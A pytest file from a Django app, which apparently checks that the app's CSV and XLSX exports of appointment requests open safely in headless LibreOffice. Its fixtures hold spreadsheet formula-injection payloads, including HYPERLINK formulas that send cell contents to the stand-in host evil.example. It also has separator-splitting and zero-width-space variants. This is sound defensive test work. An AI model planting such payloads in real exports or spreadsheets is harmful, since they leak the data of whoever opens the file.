"""The exports opened in a real spreadsheet program: Debian's LibreOffice Calc, headless.

Each export is converted by ``soffice --convert-to xlsx`` (LibreOffice reads the
file as a person opening it would, then saves what it understood) and every
cell is read back: accents intact, no formula (a formula would come back as a
formula cell, or as its result), phone numbers with their ``+`` and leading zeros.

The CSV is opened as a person would with ``,`` (its own separator) and with ``;``
(the default of Excel in many locales): no formula either way, and with ``,`` and
"Format quoted field as text" the very cells Python's ``csv`` reads.

Skipped locally when ``soffice`` is missing; in CI (``CI=true``) that is a
failure: ``.ci/run`` installs ``libreoffice-calc``.
"""

import csv
import datetime
import io
import shutil
import subprocess
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from lead_forms.models import AppointmentSubmission
from tests.apps.test_spreadsheet import spreadsheet_could_run
from tests.conftest import IN_CI
from tests.lead_forms.conftest import make_submission

INDEX = "lead_forms_appointmentsubmission_modeladmin_index"
# The CSV import options a person confirms in LibreOffice's import dialog (which headless
# conversion skips): comma-separated, double quotes, UTF-8 (character set 76), from row 1.
CSV_IMPORT = "CSV:44,34,76,1"
# The same file opened with ";" as separator: what Excel in German or Spanish, and
# LibreOffice set up that way, do with a double-clicked CSV.
CSV_IMPORT_SEMICOLON = "CSV:59,34,76,1"
# "Format quoted field as text" ticked (the 7th option): every cell is quoted, so every
# cell stays text, leading zeros included.
CSV_IMPORT_QUOTED_AS_TEXT = "CSV:44,34,76,1,,0,true"

pytestmark = pytest.mark.django_db


@pytest.fixture(scope="module")
def soffice():
    path = shutil.which("soffice") or shutil.which("libreoffice")
    if path is None:
        if IN_CI:
            pytest.fail("The spreadsheet round trip needs LibreOffice: apt-get install libreoffice-calc")
        pytest.skip("LibreOffice (soffice) is not installed: apt-get install libreoffice-calc")
    return path


def open_all_in_libreoffice(soffice, tmp_path, files, infilter=None):
    """Each of ``files`` (name: content) opened by LibreOffice, in one run, and saved again as XLSX.

    Returns the sheet LibreOffice read, by name. Every run gets its own folder.
    """
    run = tmp_path / f"run-{len(list(tmp_path.glob('run-*')))}"
    run.mkdir()
    sources = []
    for name, content in files.items():
        (run / name).write_bytes(content)
        sources.append(str(run / name))
    command = [soffice, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless"]
    if infilter:
        command.append(f"--infilter={infilter}")
    command += ["--convert-to", "xlsx", "--outdir", str(run / "out"), *sources]
    subprocess.run(command, check=True, capture_output=True, timeout=180)  # noqa: S603
    return {name: load_workbook(run / "out" / (Path(name).stem + ".xlsx")).active for name in files}


def open_in_libreoffice(soffice, tmp_path, name, content, infilter=None):
    """``content`` saved as ``name``, opened by LibreOffice and saved again as XLSX: the sheet it read."""
    return open_all_in_libreoffice(soffice, tmp_path, {name: content}, infilter)[name]


def sheet_cells(sheet):
    """The sheet's rows as lists of text, trailing empty cells dropped (a spreadsheet pads rows)."""
    rows = []
    for row in sheet.iter_rows():
        values = ["" if cell.value is None else cell.value for cell in row]
        while values and values[-1] == "":
            values.pop()
        rows.append(values)
    return rows


def csv_cells(raw, delimiter=","):
    """The CSV's rows as Python's csv module reads them, trailing empty cells dropped."""
    rows = []
    for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=delimiter):
        while row and row[-1] == "":
            row.pop()
        rows.append(row)
    return rows


def assert_nothing_can_run(sheet):
    """No formula, and no text cell that a spreadsheet could still run (the apostrophe is there)."""
    assert_nothing_evaluated(sheet)
    live = [cell.value for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert [value for value in live if spreadsheet_could_run(value)] == []


ATTACK = '=HYPERLINK("http://evil.example/?"&A1;"Click here")'


@pytest.fixture
def requests_to_export(form_page):
    abroad = make_submission(
        form_page,
        first_name="Élodie",
        last_name="Çağlar-Nuñez",
        city="São Paulo",
        state="=1+1",
        phone="+551155550101",
        your_comments=ATTACK,
    )
    local = make_submission(
        form_page,
        first_name="Zoë",
        last_name="\u200b=2+3",  # a zero-width space hiding the formula from a first-character check
        city="+1+1",
        state="0042",
        phone="02175550199",
        your_comments="@SUM(1;2)",
    )
    when = datetime.datetime(2026, 3, 1, 14, 5, tzinfo=datetime.UTC)
    AppointmentSubmission.objects.filter(pk__in=[abroad.pk, local.pk]).update(submit_time=when)
    return abroad, local


def download(fmt):
    from tests.factories import UserFactory

    client = Client()
    client.force_login(UserFactory(username="lo-root", is_superuser=True, is_staff=True))
    response = client.get(reverse(INDEX), {"export": fmt})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def rows_by_first_name(sheet):
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    header = rows[0]
    return {row[header.index("First name")]: dict(zip(header, row, strict=False)) for row in rows[1:]}


def assert_nothing_evaluated(sheet):
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert not formulas, f"LibreOffice read formulas in {formulas}"


def test_xlsx_opens_in_libreoffice_with_every_value_as_text(soffice, tmp_path, requests_to_export):
    sheet = open_in_libreoffice(soffice, tmp_path, "requests.xlsx", download("xlsx"))

    assert_nothing_evaluated(sheet)
    rows = rows_by_first_name(sheet)
    assert set(rows) == {"Élodie", "Zoë"}
    elodie, zoe = rows["Élodie"], rows["Zoë"]
    assert elodie["Last name"] == "Çağlar-Nuñez" and elodie["City"] == "São Paulo"
    assert elodie["State"] == "=1+1" and elodie["Your comments"] == ATTACK  # the text, not its result
    assert zoe["Last name"] == "\u200b=2+3" and zoe["City"] == "+1+1" and zoe["Your comments"] == "@SUM(1;2)"
    assert zoe["State"] == "0042"
    assert elodie["Phone"] == "+55 11 5555-0101"
    assert zoe["Phone"] == "021 755 501 99"  # not a number: the leading zero stays
    # The clinic's time, as text, with its offset; the heading names the zone.
    assert elodie["Received (America/New_York)"] == "2026-03-01 09:05:00-05:00"
    for row in rows.values():
        assert all(value is None or isinstance(value, str) for value in row.values()), row


def test_csv_opens_in_libreoffice_with_formulas_as_text(soffice, tmp_path, requests_to_export):
    sheet = open_in_libreoffice(soffice, tmp_path, "requests.csv", download("csv"), infilter=CSV_IMPORT)

    assert_nothing_evaluated(sheet)
    rows = rows_by_first_name(sheet)
    assert set(rows) == {"Élodie", "Zoë"}
    elodie, zoe = rows["Élodie"], rows["Zoë"]
    assert elodie["Last name"] == "Çağlar-Nuñez" and elodie["City"] == "São Paulo"
    # A CSV has no text cells: what a spreadsheet could run keeps one visible apostrophe.
    assert elodie["State"] == "'=1+1" and elodie["Your comments"] == "'" + ATTACK
    assert (
        zoe["Last name"] == "'\u200b=2+3" and zoe["City"] == "'+1+1" and zoe["Your comments"] == "'@SUM(1;2)"
    )
    assert elodie["Phone"] == "'+55 11 5555-0101"  # the + is kept, as text
    assert zoe["Phone"] == "021 755 501 99"  # not a number: the leading zero stays
    assert isinstance(elodie["Reference"], str) and elodie["Reference"].startswith("AR-")


# Audit M1: opened with ";", this quote-free comment was a live link carrying the row.
SEPARATOR_ATTACK = 'x;=1+2;y;=HYPERLINK("http://evil.example/?"&B2&C2;"Click")'


@pytest.fixture
def separator_attacks(requests_to_export, form_page):
    make_submission(
        form_page,
        first_name="Inès",
        last_name="O'Brien, Jr",
        city='Tab\there; "quoted"',
        state="0123",
        phone="+551155550102",
        your_comments=SEPARATOR_ATTACK + "\n- a list\n=1+1",
    )


def test_csv_opened_with_any_separator_runs_nothing_and_keeps_the_cells(soffice, tmp_path, separator_attacks):
    raw = download("csv")
    by_separator = {
        ",": open_in_libreoffice(soffice, tmp_path, "requests.csv", raw, infilter=CSV_IMPORT),
        ";": open_in_libreoffice(soffice, tmp_path, "requests.csv", raw, infilter=CSV_IMPORT_SEMICOLON),
        "text": open_in_libreoffice(
            soffice, tmp_path, "requests.csv", raw, infilter=CSV_IMPORT_QUOTED_AS_TEXT
        ),
    }

    for sheet in by_separator.values():
        assert_nothing_can_run(sheet)
    # With its own separator, the cells Python reads, none cut by a ";", "," or tab inside.
    assert sheet_cells(by_separator["text"]) == csv_cells(raw)
    ines = rows_by_first_name(by_separator[","])["Inès"]
    assert (
        ines["Your comments"]
        == "x;'=1+2;y;'=HYPERLINK(\"http://evil.example/?\"&B2&C2;\"Click\")\n'- a list\n'=1+1"
    )
    assert ines["Last name"] == "O'Brien, Jr" and ines["City"] == 'Tab\there; "quoted"'
    # A CSV cannot say "text": without the option a spreadsheet reads 0123 as a number;
    # with it (every cell is quoted), as typed. The XLSX keeps it as text either way.
    assert ines["State"] == 123
    assert rows_by_first_name(by_separator["text"])["Inès"]["State"] == "0123"
    # With ";", a row's cells run together and are cut at each ";": every piece that
    # could start a formula carries its apostrophe (checked above), and is text.
    pieces = [cell.value for row in by_separator[";"].iter_rows() for cell in row if cell.value is not None]
    assert "'=1+2" in pieces and "y" in pieces


def test_xlsx_keeps_every_answer_exactly_in_libreoffice(soffice, tmp_path, separator_attacks):
    sheet = open_in_libreoffice(soffice, tmp_path, "requests.xlsx", download("xlsx"))

    assert_nothing_evaluated(sheet)
    ines = rows_by_first_name(sheet)["Inès"]
    assert ines["Your comments"] == SEPARATOR_ATTACK + "\n- a list\n=1+1"  # as typed, no apostrophe
    assert ines["State"] == "0123" and ines["City"] == 'Tab\there; "quoted"'


def test_xlsx_columns_are_sized_to_their_content_in_libreoffice(soffice, tmp_path, requests_to_export):
    sheet = open_in_libreoffice(soffice, tmp_path, "requests.xlsx", download("xlsx"))

    header = [cell.value for cell in next(sheet.iter_rows())]
    widths = {
        label: sheet.column_dimensions[cell.column_letter].width
        for label, cell in zip(header, next(sheet.iter_rows()), strict=True)
    }
    # Wide enough for each column's longest value (LibreOffice keeps the widths the file sets),
    # never the default 8.43 that cut the text off; long answers capped at a screen's share.
    assert widths["Reference"] >= len("AR-XXXXXXXX")
    assert widths["Received (America/New_York)"] >= len("Received (America/New_York)")
    assert widths["Last name"] >= len("Çağlar-Nuñez")
    assert widths["Phone"] >= len("+55 11 5555-0101")
    assert widths["Your comments"] >= len(ATTACK)
    assert all(width <= 61 for width in widths.values()), widths
    assert widths["Status"] < widths["Your comments"]
